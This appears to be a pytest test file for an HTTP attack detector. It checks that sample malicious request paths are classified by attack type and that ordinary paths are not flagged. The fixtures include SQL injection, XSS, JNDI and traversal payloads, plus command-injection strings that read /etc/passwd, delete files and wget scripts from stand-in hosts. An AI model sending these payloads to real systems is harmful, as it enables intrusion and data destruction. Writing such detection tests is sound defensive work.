"""Attack requests: every class is found in its spellings, ordinary requests are left alone."""

import pytest

from agent.detections.http_attack import CLASSES, LITERALS, Config, Detection
from agent.scan.gates import Gates
from tests.detections.seen import request

ATTACKS = {
    "potential sql injection": [
        "/items.php?id=1%20UNION%20ALL%20SELECT%20a,b%20FROM%20users",
        "/?id=1+UnIoN+SeLeCt+2",
        "/?id=1%2527%2520or%25201%253D1",
        "/?id=1'+or+'1'='1",
        "/?id=1/**/union/**/select/**/2",
        "/?id=1/*!50000union*/+select+2",
        "/?id=sleep(5)",
        "/?id=1+and+7=7",
        "/?q=1;waitfor+delay+'0:0:5'",
        "/?id=extractvalue(1,2)",
        "/?t=information_schema.tables",
        "/?id=1+order+by+12--",
    ],
    "potential xml injection": ["/?u=/text()='a'"],
    "potential php injection": ["/?p=%3C?php+x", "/?f=php://input"],
    "potential ldap injection": ["/?u=(|(uid=*)", "/?u=*)(uid=*))"],
    "potential xss injection": [
        "/?q=<script>x</script>",
        "/?q=%3CsCrIpT%3E",
        "/?q=%253Cscript%253E",
        '/?q="onerror=alert(1)',
        "/?q=confirm(1)",
    ],
    "potential xxe injection": ["/?x=[<!ENTITY+x"],
    "potential ssti injection": ["/?q={{7*7}}", "/?q=%24%7B7*7%7D", "/?q={{config.get('a')}}"],
    "potential data leakage": ["/?imei=123456789012345", "/?mac=00:11:22:33:44:55"],
    "config file access": ["/wp-config.php", "/.htpasswd", "/.env", "/a/.git/config", "/.env?x"],
    "potential remote code execution": [
        "/cgi?cmd=;cat%20/etc/passwd;wget%20http://evil/x.sh",
        "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x",
        "/?x=${jndi:ldap://a/b}",
        "/?x=${${lower:j}ndi:x}",
        "/?x=$%7BIFS%7D",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/?c=chmod+777+x",
        "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    ],
    "potential directory traversal": [
        "/download?file=../../../../etc/passwd",
        "/..%2f..%2f..%2fx",
        "/%252e%252e/%252e%252e/%252e%252e/x",
        "/....//....//....//x",
        "/?f=c:\\windows\\win.ini",
        "/static/../../../boot",
    ],
    "potential web scan": ["/w00tw00t.at.blackhats", "/acunetix_wvs_x", "/long_inexistent_path"],
    "potential dns changer": ["/goform?dns1=192.0.2.1", "/x?wan_dns1_x=192.0.2.1"],
    "non-existent page": ["/defaultwebpage.cgi"],
}

ORDINARY = [
    "/",
    "/downloads/ads/setup.html?x=ads",
    "/search?q=trade+union+selects+committee",
    "/search?q=rock+and+roll+or+jazz",
    "/?sort=order&by=name&select=all",
    "/api?filter=%7B%22a%22:%7B%22b%22:1%7D%7D",
    "/pixel?gdpr=${GDPR_CONSENT_123}",
    "/a/../b/image.png",
    "/static/../../../images/logo.png",
    "/blog/how-to-drop-a-table",
    "/?sid=abcdef&mac=intosh",
    "/repo.git/info/refs?service=git-upload-pack",
    "/environment",
    "/?mail=one@example.org",
    "/ipconfig-explained.html",
    "/q?text=please+select+one+from+the+menu",
]


def classify(target: str, body: bytes = b"", *, leaves_home: bool = True) -> str:
    """Return the class of a request, empty for none."""
    seen = request(target, method="POST" if body else "GET", body=body, leaves_home=leaves_home)
    finding = Detection(Config()).examine(seen)
    return finding.info.removesuffix(" (suspicious)") if finding else ""


@pytest.mark.parametrize(
    ("info", "target"), [(info, target) for info, all_ in ATTACKS.items() for target in all_]
)
def test_an_attack_is_told_by_its_class(info: str, target: str) -> None:
    """In target and body alike."""
    assert classify(target) == info
    assert classify("/submit", target.encode()) == info


@pytest.mark.parametrize("target", [target for all_ in ATTACKS.values() for target in all_])
def test_the_gate_lets_every_attack_pass(target: str) -> None:
    """What the scanner does not show nobody can judge."""
    gates, raw = Gates(Detection.wanted), target.encode()

    assert gates.may_matter(memoryview(raw), 0, len(raw), 2) == 1


@pytest.mark.parametrize("target", ORDINARY)
def test_an_ordinary_request_is_not_told(target: str) -> None:
    """Also not for words that Maltrail's patterns took for attacks, or for exceptions (D-43)."""
    assert classify(target) == ""


def test_every_class_has_an_example() -> None:
    """A new class needs one, and literals that let it pass."""
    assert set(ATTACKS) == {info for info, _ in CLASSES}
    assert all(len(literal) >= 4 for literal in LITERALS)


def test_a_leak_counts_only_where_it_leaves_home() -> None:
    """Devices tell their own servers."""
    assert classify("/?imei=123456789012345", leaves_home=False) == ""


def test_bodies_can_be_left_out() -> None:
    """Where programs of the site post SQL."""
    seen = request("/", method="POST", body=b"q=1 union select 2")

    assert Detection(Config(bodies=False)).examine(seen) is None
    assert Detection(Config()).examine(seen) is not None


def test_the_trail_shows_target_and_body() -> None:
    """As Maltrail words them (H-15, H-17)."""
    seen = request("/submit", "post.example", method="POST", body=b"q=1 UNION ALL SELECT pwd (x)")
    finding = Detection(Config()).examine(seen)

    assert finding is not None
    assert finding.type == "HTTP"
    assert finding.trail == (
        r"post.example(/submit \(POST q=1%20UNION%20ALL%20SELECT%20pwd%20%28x%29\))"
    )
